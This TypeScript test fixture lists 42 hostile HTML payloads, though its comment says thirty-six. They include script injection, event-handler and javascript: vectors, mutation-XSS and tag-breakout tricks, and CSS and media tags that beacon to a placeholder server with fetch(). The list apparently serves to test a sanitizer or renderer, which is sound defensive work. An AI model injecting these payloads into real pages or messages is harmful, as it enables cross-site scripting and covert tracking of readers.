// Thirty-six hostile letters: each tries to fetch something or to run something when it is merely opened. `@` stands for the catching server.

export interface Vector {
  readonly name: string;
  readonly html: string;
}

const run = (name: string): string => `fetch('@/ran-${name}');parent.document.title='ran ${name}'`;

export const vectors: readonly Vector[] = [
  { name: 'script-inline', html: `<script>${run('script-inline')}</script>` },
  { name: 'script-src', html: `<script src="@/script-src.js"></script>` },
  { name: 'img-src', html: `<img src="@/img-src.png">` },
  { name: 'img-srcset', html: `<img srcset="@/img-srcset.png 1x">` },
  { name: 'img-onerror', html: `<img src="data:," onerror="${run('img-onerror')}">` },
  { name: 'picture-source', html: `<picture><source srcset="@/picture.png"><img src="data:,"></picture>` },
  { name: 'svg-onload', html: `<svg onload="${run('svg-onload')}"></svg>` },
  { name: 'svg-image', html: `<svg width="9" height="9"><image href="@/svg-image.png" width="9" height="9"/></svg>` },
  {
    name: 'svg-fe-image',
    html: `<svg width="40" height="40"><filter id="f"><feImage href="@/fe-image.png"/></filter><rect width="40" height="40" filter="url(#f)"/></svg>`,
  },
  { name: 'svg-style', html: `<svg><style>@import url("@/svg-style.css");</style></svg>` },
  { name: 'iframe-src', html: `<iframe src="@/iframe.html"></iframe>` },
  { name: 'iframe-srcdoc', html: `<iframe srcdoc="<img src='@/iframe-srcdoc.png'>"></iframe>` },
  { name: 'iframe-javascript', html: `<iframe src="javascript:${run('iframe-javascript')}"></iframe>` },
  { name: 'object-data', html: `<object data="@/object.png" type="image/png"></object>` },
  { name: 'embed-src', html: `<embed src="@/embed.png" type="image/png">` },
  { name: 'link-stylesheet', html: `<link rel="stylesheet" href="@/link.css">` },
  { name: 'link-preload', html: `<link rel="preload" as="image" href="@/preload.png">` },
  { name: 'style-import', html: `<style>@import "@/import.css";</style><p>x</p>` },
  { name: 'style-background', html: `<style>p{background:url(@/style-background.png)}</style><p>x</p>` },
  { name: 'style-escaped', html: `<style>p{background:\\75 \\72 l(@/style-escaped.png)}</style><p>x</p>` },
  {
    name: 'style-variable',
    html: `<style>:root{--a:url(@/style-variable.png)}p{background-image:var(--a)}</style><p>x</p>`,
  },
  { name: 'style-image-set', html: `<p style="background-image:image-set('@/image-set.png' 1x)">x</p>` },
  { name: 'style-attribute', html: `<div style="background:url('@/style-attribute.png')">x</div>` },
  { name: 'style-list', html: `<ul style="list-style-image:url(@/style-list.png)"><li>x</li></ul>` },
  { name: 'style-content', html: `<style>p::before{content:url(@/style-content.png)}</style><p>x</p>` },
  {
    name: 'style-font',
    html: `<style>@font-face{font-family:f;src:url(@/font.woff2)}p{font-family:f}</style><p>x</p>`,
  },
  {
    name: 'style-nested',
    html: `<style>@media all{@supports (color:red){p{border-image:url(@/nested.png) 1}}}p{border:1px solid}</style><p>x</p>`,
  },
  {
    name: 'style-commented',
    html: `<style>p{background:/*x*/url(/*"*/@/commented.png)}</style><p style="background:u\\rl(@/commented2.png)">x</p>`,
  },
  { name: 'body-background', html: `<body background="@/body-background.png">x` },
  { name: 'table-background', html: `<table background="@/table-background.png"><tr><td>x</td></tr></table>` },
  { name: 'video-poster', html: `<video poster="@/poster.png"></video>` },
  { name: 'video-src', html: `<video src="@/video.mp4" autoplay muted></video>` },
  { name: 'audio-src', html: `<audio src="@/audio.mp3" autoplay preload="auto"></audio>` },
  { name: 'input-image', html: `<form><input type="image" src="@/input-image.png"></form>` },
  { name: 'base-relative', html: `<base href="@/base/"><img src="relative.png">` },
  { name: 'meta-refresh', html: `<meta http-equiv="refresh" content="0;url=@/refresh.html"><p>x</p>` },
  { name: 'details-toggle', html: `<details open ontoggle="${run('details-toggle')}"><p>x</p></details>` },
  { name: 'focus-auto', html: `<input autofocus onfocus="${run('focus-auto')}">` },
  {
    name: 'mutation',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run('mutation').replaceAll("'", '&amp;#39;')}&gt;">`,
  },
  {
    name: 'shadow-root',
    html: `<div><template shadowrootmode="open"><img src="@/shadow.png"></template></div>`,
  },
  { name: 'noscript-title', html: `<noscript><p title="</noscript><img src=@/noscript.png>"></noscript>` },
  {
    name: 'style-breakout',
    html: `<style>a{content:"</sty\\6c e><img src=@/breakout.png>"}</style><title><img title="</title><img src=@/title.png>"></title>`,
  },
];
